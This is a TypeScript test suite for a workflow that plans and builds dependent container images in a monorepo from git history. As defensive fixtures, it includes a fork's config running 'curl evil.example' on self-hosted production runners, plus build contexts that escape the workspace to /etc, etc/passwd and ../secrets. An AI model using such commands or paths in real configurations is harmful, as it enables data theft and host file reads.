import { execFile } from 'node:child_process';
import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { RegistryClient } from '../../src/io/registry/client.ts';
import { encode, OCI_INDEX, pushIndex, sha256 } from '../io/registries.ts';
import { makeWorkspace, runStep, testbed, uniqueImage } from './door.ts';
import { digestOf, removeImages, runImage } from './image.ts';
import { runWorkflow } from './workflow.ts';

const run = promisify(execFile);
const keys = ['base', 'shop', 'mail'] as const;
const prefixes: string[] = [];
afterAll(() => removeImages(prefixes.flatMap((prefix) => keys.map((key) => `${prefix}/${key}`))));

function newPrefix(): string {
  const prefix = uniqueImage();
  prefixes.push(prefix);
  return prefix;
}

/** Two images in folders of their own, one on the other, and one that takes a file out of the whole. */
const filesOf = (prefix: string) => ({
  'images.yml':
    'images:\n  base: base\n  shop: services/shop\n  mail:\n    context: .\n    file: services/mail/Dockerfile\n',
  'base/Dockerfile': `FROM ${testbed('BASE')}\nCOPY motto /motto\n`,
  'base/motto': 'one\n',
  'services/shop/Dockerfile': `FROM ${prefix}/base:main\nCOPY name /name\nCMD ["cat", "/motto", "/name"]\n`,
  'services/shop/name': 'shop\n',
  'services/mail/Dockerfile': `FROM ${testbed('BASE')}\nCOPY services/mail/letter /\n`,
  'services/mail/letter': 'dear\n',
});

const fork = {
  name: 'pull_request',
  payload: {
    number: 7,
    pull_request: {
      number: 7,
      head: { ref: 'topic', repo: { full_name: 'Wile/App', fork: true } },
      base: { ref: 'main', repo: { full_name: 'Acme/App' } },
      user: { login: 'octocat' },
    },
  },
};

describe('the reusable workflow for several images', () => {
  const prefix = newPrefix();
  const main = { name: 'push', payload: { ref: 'refs/heads/main' } };
  const publish = (files: object = {}, event: typeof fork | typeof main = main, inputs = {}) =>
    runWorkflow({
      workflow: 'examples/monorepo.yml',
      event,
      texts: { 'ghcr.io/acme/app': prefix, 'platforms: linux/amd64,linux/arm64': 'platforms: linux/amd64' },
      // Each run here is of a repository without a past.
      inputs: { 'changed-since': 'content', ...inputs },
      files: { ...filesOf(prefix), ...files },
    });
  const digests = async () =>
    Object.fromEntries(
      await Promise.all(keys.map(async (key) => [key, await digestOf(`${prefix}/${key}:main`)] as const)),
    );

  it('builds what a pull request of a fork has, what it is built on first, and pushes nothing', async () => {
    // A base that is handed over wants a builder of its own, which is to see the registry of this machine.
    const pull = await publish({}, fork, { 'driver-opts': 'network=host' });
    expect(pull.exitCode).toBe(0);
    expect(pull.log).toContain('built [["base","mail"],["shop"],[],[]], as they were []');
    expect(await digests()).toEqual({ base: undefined, shop: undefined, mail: undefined });
  });

  it('builds all at first, each behind what it is built on; then what has changed, and the others get the tags', async () => {
    const first = await publish();
    expect(first.exitCode).toBe(0);
    expect(first.log).toContain('built [["base","mail"],["shop"],[],[]], as they were []');
    const before = await digests();
    expect(first.log).toContain(`shop is built on base: ${prefix}/base@${before.base}`);
    expect(await runImage(`${prefix}/shop:main`, 'linux/amd64')).toBe('one\nshop');

    const second = await publish({ 'services/mail/letter': 'sir\n' });
    expect(second.exitCode).toBe(0);
    expect(second.log).toContain('built [["mail"],[],[],[]], as they were ["base","shop"]');
    const after = await digests();
    expect(after).toEqual({ ...before, mail: after.mail });
    expect(after.mail).not.toBe(before.mail);
  });
});

/** A real repository with a past, whose images are published by hand: their content is of no interest here. */
async function makeHistory(prefix: string) {
  const workspace = await makeWorkspace(filesOf(prefix));
  const git = async (...args: string[]) => {
    const identity = ['-c', 'user.name=Wile', '-c', 'user.email=wile@example.com'];
    return (await run('git', [...identity, ...args], { cwd: workspace.folder })).stdout.trim();
  };
  const commit = async (files: Readonly<Record<string, string>>) => {
    for (const [name, text] of Object.entries(files)) {
      await mkdir(dirname(join(workspace.folder, name)), { recursive: true });
      await writeFile(join(workspace.folder, name), text);
    }
    await git('add', '.');
    await git('commit', '--quiet', '--message', 'more', '--allow-empty');
    return git('rev-parse', 'HEAD');
  };
  await git('init', '--quiet', '--initial-branch', 'main');
  const [host = '', ...path] = prefix.split('/');
  const pretend = async (key: string, revision: string) => {
    const repository = { host, repository: `${path.join('/')}/${key}` };
    const { bytes } = await pushIndex(repository, ['linux/amd64'], revision);
    const annotations = { 'org.opencontainers.image.revision': revision };
    const index = encode({ ...JSON.parse(new TextDecoder().decode(bytes)), annotations });
    await new RegistryClient().putManifest(repository, 'main', index, OCI_INDEX);
    return sha256(index);
  };
  const plan = async (sha: string, inputs: Readonly<Record<string, string>> = {}, event: object = {}) => {
    const own = { 'images-file': 'images.yml', images: prefix, platforms: 'linux/amd64', ...inputs };
    const env = { PATH: '/usr/bin:/bin' };
    const step = await runStep({
      entry: 'plan',
      workspace: workspace.folder,
      inputs: own,
      event: { sha, ...event },
      env,
    });
    const plans: Record<string, Record<string, unknown>> = JSON.parse(step.outputs.plans ?? '{}');
    const decisions = Object.fromEntries(
      Object.entries(plans).map(([key, one]) => [key, `${one.decision}: ${one['decision-reason']}`]),
    );
    return { step, plans, decisions };
  };
  const first = await commit({});
  return { ...workspace, git, commit, pretend, plan, first };
}

describe('the plan of several images', () => {
  const prefix = newPrefix();
  let history: Awaited<ReturnType<typeof makeHistory>>;
  beforeAll(async () => {
    history = await makeHistory(prefix);
    for (const key of keys) await history.pretend(key, history.first);
  });
  afterAll(() => history.remove());

  it('compares with the commit that the published image was built from, and says why, in log, summary and plan', async () => {
    const sha = await history.commit({ 'services/mail/letter': 'sir\n', 'README.md': 'new\n' });
    const { step, decisions, plans } = await history.plan(sha);
    const short = history.first.slice(0, 7);
    const same = (key: string) =>
      `promote: nothing that ${prefix}/${key}:main is made of has changed since ${short}`;
    const why = `${prefix}/mail:main was built from ${short}, and \`services/mail/letter\` has changed (it goes into the image)`;
    expect(decisions).toEqual({ base: same('base'), shop: same('shop'), mail: `build: ${why}` });
    expect(step.log).toContain(`mail  built: ${why}`);
    expect(step.summary).toContain('1 of 3 images is built');
    expect(plans.base?.source).toBe(`${prefix}/base@${await digestOf(`${prefix}/base:main`)}`);
    expect(step.outputs).toMatchObject({
      waves: '[["mail"],[],[],[]]',
      unchanged: '["base","shop"]',
      push: 'true',
      matrix: JSON.stringify({
        include: [
          {
            image: 'mail',
            index: 0,
            platforms: 'linux/amd64',
            'runs-on': '"ubuntu-24.04"',
            name: 'linux-amd64',
          },
        ],
      }),
    });
  });

  it('does not forget what a run that failed has left behind', async () => {
    // mail was never published, and nothing of it has changed since the last commit.
    const sha = await history.commit({ 'README.md': 'newer\n' });
    const { decisions } = await history.plan(sha, {}, { payload: { before: `${sha}^` } });
    expect(decisions.mail).toContain('`services/mail/letter` has changed');
  });

  it('gives what is built on an image that stays its digest at once; what is built on a new one waits for that', async () => {
    const stays = await history.commit({ 'services/shop/name': 'store\n' });
    const { plans } = await history.plan(stays);
    const digest = await digestOf(`${prefix}/base:main`);
    expect(plans.shop).toMatchObject({
      build: { 'build-contexts': [`${prefix}/base:main=docker-image://${prefix}/base@${digest}`] },
    });
    const moves = await history.commit({ 'base/motto': 'two\n' });
    const { plans: later, step } = await history.plan(moves);
    expect(step.outputs.waves).toBe('[["base","mail"],["shop"],[],[]]');
    const complete = () =>
      runStep({
        entry: 'plan',
        workspace: history.folder,
        inputs: { plan: JSON.stringify(later.shop) },
        event: { sha: moves },
      });
    const blocked = await complete();
    expect(blocked.exitCode).toBe(1);
    expect(blocked.log).toContain(
      `\`shop\` is built on \`base\`, which this run builds, too, and ${prefix}/base:main is of commit ${history.first.slice(0, 7)}`,
    );
    const built = await history.pretend('base', moves);
    const completed = await complete();
    expect(JSON.parse(completed.outputs.plan ?? '{}')).toMatchObject({
      build: { 'build-contexts': [`${prefix}/base:main=docker-image://${prefix}/base@${built}`] },
      image: 'shop',
    });
    expect(completed.outputs.tags).toBe(`${prefix}/shop:main`);
    const leg = await runStep({
      entry: 'build',
      workspace: history.folder,
      inputs: { plan: JSON.stringify(later.shop), platforms: 'linux/amd64' },
    });
    expect(leg.log).toContain('the plan does not say yet which digest that has');
  });

  it('compares a pull request with its base, and publishes nothing', async () => {
    const before = await history.git('rev-parse', 'HEAD');
    const sha = await history.commit({ 'services/mail/letter': 'all\n' });
    const base = { ref: 'main', sha: before, repo: { full_name: 'Acme/App' } };
    const payload = {
      number: 7,
      pull_request: { number: 7, base, head: { ref: 'x', repo: { full_name: 'Acme/App' } } },
    };
    const { step, decisions } = await history.plan(
      sha,
      {},
      { name: 'pull_request', ref: 'refs/pull/7/merge', payload },
    );
    expect(decisions).toEqual({
      base: expect.stringMatching(/^leave: nothing of it has changed since/),
      shop: expect.stringMatching(/^leave: /),
      mail: expect.stringMatching(/^build: `services\/mail\/letter` has changed/),
    });
    expect(step.outputs).toMatchObject({ push: 'false', unchanged: '[]' });
  });

  describe('an event that may be about the code of others', () => {
    const list = (shop: string) =>
      `images:\n  base: base\n  mail:\n    context: .\n    file: services/mail/Dockerfile\n  shop:\n    context: services/shop\n${shop}`;
    const own = list("    runners: '* = own-runner'\n    test: ./own-test\n");
    const foreign = list(
      '    runners: \'* = ["self-hosted","production"]\'\n    test: curl evil.example\n    name: ghcr.io/acme/other\n',
    );
    const pull = (base: string) => ({
      number: 7,
      pull_request: {
        number: 7,
        base: { ref: 'main', sha: base, repo: { full_name: 'Acme/App' } },
        head: { ref: 'x', repo: { full_name: 'Wile/App' } },
      },
    });
    const inputs = { 'changed-since': 'all' };
    let [before, sha] = ['', ''];
    beforeAll(async () => {
      before = await history.commit({ 'images.yml': own });
      sha = await history.commit({ 'images.yml': foreign });
    });
    afterAll(() => history.commit({ 'images.yml': filesOf(prefix)['images.yml'] }));
    const shown = ({ plans }: Awaited<ReturnType<typeof history.plan>>) => {
      const { images, build, matrix } = plans.shop as Record<string, Record<string, unknown>>;
      const [leg] = (matrix?.include ?? []) as { 'runs-on': string }[];
      return { images, test: build?.test, runner: leg?.['runs-on'] };
    };

    it.each(['pull_request', 'pull_request_target'])(
      '%s: runners, tests and names are those of the base commit, and the log says so',
      async (name) => {
        const ref = name === 'pull_request' ? 'refs/pull/7/merge' : 'refs/heads/main';
        const planned = await history.plan(sha, inputs, { name, ref, payload: pull(before) });
        expect(planned.step.exitCode).toBe(0);
        expect(shown(planned)).toEqual({
          images: [`${prefix}/shop`],
          test: './own-test',
          runner: '"own-runner"',
        });
        expect(planned.step.log).toContain('`shop` (`runners`, `test`, `name`)');
      },
    );

    it('a comment on a pull request: where the base commit is not here, they are left to the workflow', async () => {
      const event = { name: 'issue_comment', ref: 'refs/heads/main', sha: 'f'.repeat(40) };
      const payload = { issue: { number: 7, pull_request: {} } };
      const planned = await history.plan(sha, inputs, { ...event, payload });
      expect(shown(planned)).toEqual({
        images: [`${prefix}/shop`],
        test: undefined,
        runner: '"ubuntu-24.04"',
      });
      expect(planned.step.log).toContain('`fetch-depth: 0`');
    });

    it('the workflow may trust them, and a push is trusted', async () => {
      const trusted = { ...inputs, 'trust-images-file': 'true' };
      const event = { name: 'pull_request', ref: 'refs/pull/7/merge', payload: pull(before) };
      for (const planned of [await history.plan(sha, trusted, event), await history.plan(sha, inputs)])
        expect(shown(planned)).toMatchObject({ images: ['ghcr.io/acme/other'], test: 'curl evil.example' });
    });
  });

  it('refuses whatever stands outside of the workspace, behind a link too', async () => {
    await symlink('/etc', join(history.folder, 'etc'));
    const list = `images:
  up: {context: ../.., file: base/Dockerfile}
  root: {context: /etc, file: base/Dockerfile}
  link: {context: etc, file: base/Dockerfile}
  file: {context: base, file: etc/passwd}
  named: {context: base, build-contexts: {x: '../secrets', y: 'oci-layout:///var/lib/images:1'}}
`;
    const sha = await history.commit({ 'outside.yml': list });
    await rm(join(history.folder, 'etc'));
    await symlink('/etc', join(history.folder, 'etc'));
    const { step } = await history.plan(sha, { 'images-file': 'outside.yml' });
    await rm(join(history.folder, 'etc'));
    expect(step.exitCode).toBe(1);
    for (const text of [
      '`up`: its `context` is `../..`, which is outside of the workspace',
      '`root`: its `context` is `/etc`',
      '`link`: its `context` is `etc`',
      '`file`: its `file` is `etc/passwd`',
      '`named`: its `build-contexts` is `../secrets`',
      '`named`: its `build-contexts` is `/var/lib/images`',
    ])
      expect(step.log).toContain(text);
    await history.commit({});
  });

  it('says so where the history is not there, and builds all that it cannot compare', async () => {
    const folder = `${history.folder}-shallow`;
    await run('git', ['clone', '--quiet', '--depth=1', `file://${history.folder}`, folder]);
    const sha = await history.git('rev-parse', 'HEAD');
    const step = await runStep({
      entry: 'plan',
      workspace: folder,
      inputs: { 'images-file': 'images.yml', images: prefix, platforms: 'linux/amd64' },
      event: { sha },
    });
    await rm(folder, { recursive: true });
    expect(step.log).toContain('the checkout is shallow: give actions/checkout `fetch-depth: 0`');
    expect(step.outputs.unchanged).toBe('[]');
    expect(step.summary).toContain(`${history.first.slice(0, 7)} is not in this checkout`);
  });

  it('says what is wrong with the list before anything else is done: a lost file, a lost image, a name for two', async () => {
    const listed = (list: string) => history.commit({ 'other.yml': `images:\n${list}` });
    const inputs = { 'images-file': './other.yml' };
    const lost = await history.plan(await listed('  shop: services/sho\n  post: {contxt: post}\n'), inputs);
    expect(lost.step.exitCode).toBe(1);
    expect(lost.step.log).toContain('`shop` has no Dockerfile: looked for `services/sho/Dockerfile`');
    expect(lost.step.log).toContain('other.yml, line 3: `post` has the field `contxt`');
    const needs = await history.plan(await listed('  shop: {context: base, depends-on: shp}\n'), inputs);
    expect(needs.step.log).toContain(
      '`shop` needs the image `shp` (`depends-on`), and there is none of that name',
    );
    const twins = '  shop: {context: base, name: ghcr.io/a/b}\n  mail: {context: base, name: ghcr.io/a/b}\n';
    const double = await history.plan(await listed(twins), inputs);
    expect(double.step.log).toContain('`shop` and `mail` are both called ghcr.io/a/b');
  });

  it('gives platforms that only some of the images have to the runners that are named for all', async () => {
    const sha = await history.commit({
      'other.yml': 'images:\n  base: {context: base, platforms: arm64}\n  mail: base\n',
    });
    const runners = 'arm64 = arm\namd64,linux/arm/v7 = big';
    const { step } = await history.plan(sha, {
      'images-file': 'other.yml',
      runners,
      push: 'false',
      'changed-since': 'all',
    });
    const legs = JSON.parse(step.outputs.matrix ?? '{}').include;
    expect(legs.map((leg: Record<string, string>) => [leg.image, leg.platforms, leg['runs-on']])).toEqual([
      ['base', 'linux/arm64', '"arm"'],
      ['mail', 'linux/amd64', '"big"'],
    ]);
  });

  it('releases one image alone by a tag of its own', async () => {
    const rule = (key: string) => `{context: ${key}, tags: 'type=match,pattern=${key}-v(.*),group=1'}`;
    const sha = await history.commit({
      'other.yml': `images:\n  base: ${rule('base')}\n  mail: ${rule('services/mail')}\n`,
    });
    const inputs = { 'images-file': 'other.yml' };
    const { decisions, plans } = await history.plan(sha, inputs, { ref: 'refs/tags/base-v1.2.3' });
    expect(plans.base?.tags).toEqual([`${prefix}/base:1.2.3`, `${prefix}/base:latest`]);
    expect(decisions.base).not.toMatch(/^leave/);
    expect(decisions.mail).toBe('leave: no rule gives it a tag for push on refs/tags/base-v1.2.3');
    const none = await history.plan(sha, inputs);
    expect(none.step.exitCode).toBe(1);
    expect(none.step.log).toContain('expected at least one tag to push');
  });

  it('reads a bake definition, by buildx where it is HCL', async () => {
    const sha = await history.commit({
      'docker-bake.hcl': `variable "FOLDER" { default = "base" }
group "default" { targets = ["app"] }
target "base" { context = FOLDER }
target "app" {
  context = "services/shop"
  contexts = { "${prefix}/base:main" = "target:base" }
  tags = ["${prefix}/app:x"]
}
`,
    });
    const inputs = {
      'images-file': 'docker-bake.hcl',
      images: prefix,
      platforms: 'linux/amd64',
      push: 'false',
    };
    const hcl = { entry: 'plan', workspace: history.folder, inputs, event: { sha } };
    const read = await runStep(hcl);
    expect(read.exitCode === 0 ? '' : read.log).toBe('');
    expect(read.outputs.waves).toBe('[["base"],["app"],[],[]]');
    const { app } = JSON.parse(read.outputs.plans ?? '{}');
    expect(app).toMatchObject({ images: [`${prefix}/app`], tags: [`${prefix}/app:main`] });
    const without = await runStep({ ...hcl, env: { PATH: '/usr/bin:/bin', HOME: '/nowhere' } });
    expect(without.exitCode).toBe(1);
    expect(without.log).toContain('docker buildx could not print docker-bake.hcl');
  });
});

describe('a pull request that changes an image and what is built on it', () => {
  it('is built on what it would publish, though nothing of it is published', async () => {
    const prefix = newPrefix();
    const history = await makeHistory(prefix);
    const payload = { before: '0'.repeat(40) };
    const { plans } = await history.plan(history.first, { push: 'false' }, { payload });
    const script = 'docker run --rm "$IMAGE_REF"';
    const leg = await runStep({
      entry: 'build',
      workspace: history.folder,
      inputs: {
        plan: JSON.stringify(plans.shop),
        platforms: 'linux/amd64',
        test: script,
        // The base image is on this machine.
        'driver-opts': 'network=host',
      },
      event: { sha: history.first },
    });
    await history.remove();
    expect(leg.exitCode === 0 ? '' : leg.log).toBe('');
    expect(leg.log).toContain('Building base first, which nothing is published of');
    expect(leg.log).toMatch(/one\r?\n.*shop/s);
    expect(await digestOf(`${prefix}/base:main`)).toBeUndefined();
  });
});

describe('legs of several images in one matrix', () => {
  it('have outputs by their image, of which merge takes those of its own', async () => {
    const prefix = newPrefix();
    const [host = '', ...path] = prefix.split('/');
    const legOf = async (key: string) => {
      const repository = { host, repository: `${path.join('/')}/${key}` };
      return pushIndex(repository, ['linux/amd64'], key);
    };
    const [shop, mail] = [await legOf('shop'), await legOf('mail')];
    const results = {
      r0: 'linux/amd64 of whichever came last',
      'shop-r0': `linux/amd64 ${shop.digest}`,
      'mail-r0': `linux/amd64 ${mail.digest}`,
    };
    const history = await makeHistory(prefix);
    const { plans } = await history.plan(history.first);
    const merged = await runStep({
      entry: 'merge',
      workspace: history.folder,
      inputs: { plan: JSON.stringify(plans.mail), results: JSON.stringify(results) },
    });
    await history.remove();
    expect(merged.exitCode === 0 ? '' : merged.log).toBe('');
    expect(merged.outputs.name).toBe(`${prefix}/mail`);
    expect(JSON.parse(merged.outputs.digests ?? '{}')).toEqual({ 'linux/amd64': mail.children[0] });
  });
});
